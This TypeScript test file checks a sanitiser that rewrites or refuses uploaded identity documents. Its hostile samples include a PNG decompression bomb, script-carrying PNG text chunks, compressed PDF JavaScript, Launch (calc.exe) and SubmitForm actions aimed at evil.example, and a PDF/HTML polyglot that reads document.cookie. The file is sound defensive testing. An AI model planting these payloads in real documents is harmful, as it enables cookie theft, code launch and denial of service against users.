// S29: identity documents are decoded and rewritten before they are stored. Regressions:
// accepted were a PNG whose data is not zlib, a 10000×10000 PNG that inflates to 300 MB, a
// PDF with /JavaScript inside a compressed object stream, and a PDF/HTML polyglot.
import assert from 'node:assert/strict';
import { deflateSync } from 'node:zlib';
import { describe, it } from 'node:test';
import { PDFDocument, PDFName } from '@cantoo/pdf-lib';
import sharp from 'sharp';
import { jpeg, pdf, png, pngTextChunk, pngWith } from '../../test/helpers/documents.ts';
import { sanitiseIdentityDocument } from './document-sanitiser.ts';

async function pdfWithCompressedAction(action: Record<string, string>): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage();
  document.catalog.set(PDFName.of('OpenAction'), document.context.register(document.context.obj(action)));
  return Buffer.from(await document.save({ useObjectStreams: true }));
}

describe('sanitiseIdentityDocument (S29)', () => {
  it('rewrites whole PDF, JPEG and PNG files', async () => {
    for (const [bytes, type] of [[pdf(), 'pdf'], [jpeg(), 'jpeg'], [png(), 'png']] as const) {
      const result = await sanitiseIdentityDocument(bytes);
      assert.ok(result.ok, type);
      assert.equal(result.type, type);
    }
    const image = await sanitiseIdentityDocument(png(600, 400));
    assert.ok(image.ok);
    assert.deepEqual(await sharp(image.bytes).metadata().then((m) => [m.width, m.height]), [600, 400]);
  });

  it('refuses a PNG whose image data is not zlib', async () => {
    assert.deepEqual(await sanitiseIdentityDocument(pngWith(300, 200, Buffer.from('this is not deflate data at all'))), { ok: false, reason: 'undecodable' });
  });

  it('refuses a 10000×10000 PNG from its header, before inflating it', async () => {
    const bomb = pngWith(10_000, 10_000, deflateSync(Buffer.alloc(1024 * 1024)));
    assert.deepEqual(await sanitiseIdentityDocument(bomb), { ok: false, reason: 'bad_dimensions' });
  });

  it('keeps nothing of a payload hidden in an image', async () => {
    const carrier = pngWith(300, 200, deflateSync(Buffer.alloc(301 * 200)), [pngTextChunk('<html><script>alert(1)</script></html>')]);
    const result = await sanitiseIdentityDocument(carrier);
    assert.ok(result.ok);
    assert.doesNotMatch(result.bytes.toString('latin1'), /script/);
  });

  it('refuses JavaScript, launch and form-submit actions hidden in compressed object streams', async () => {
    const actions: { S: string; [key: string]: string }[] = [{ S: 'JavaScript', JS: 'app.alert(1)' }, { S: 'Launch', F: 'calc.exe' }, { S: 'SubmitForm', F: 'https://evil.example' }];
    for (const action of actions) {
      const bytes = await pdfWithCompressedAction(action);
      assert.doesNotMatch(bytes.toString('latin1'), new RegExp(action.S), 'the name is compressed out of sight');
      assert.deepEqual(await sanitiseIdentityDocument(bytes), { ok: false, reason: 'active_content' }, action.S);
    }
  });

  it('rewrites a PDF/HTML polyglot without the HTML', async () => {
    const polyglot = Buffer.concat([pdf().subarray(0, -7), Buffer.from('%<html><body><script>alert(document.cookie)</script></body></html>\n%%EOF\n')]);
    assert.match(polyglot.toString('latin1'), /<script>/);
    const result = await sanitiseIdentityDocument(polyglot);
    assert.ok(result.ok);
    assert.doesNotMatch(result.bytes.toString('latin1'), /<script>|<html>/);
    assert.equal(result.bytes.toString('latin1', 0, 5), '%PDF-');
  });

  it('refuses what the parser cannot read', async () => {
    const garbage = Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 9 0 R >> endobj\nthis is not pdf\n%%EOF\n', 'latin1');
    const result = await sanitiseIdentityDocument(garbage);
    assert.equal(result.ok, false);
  });
});
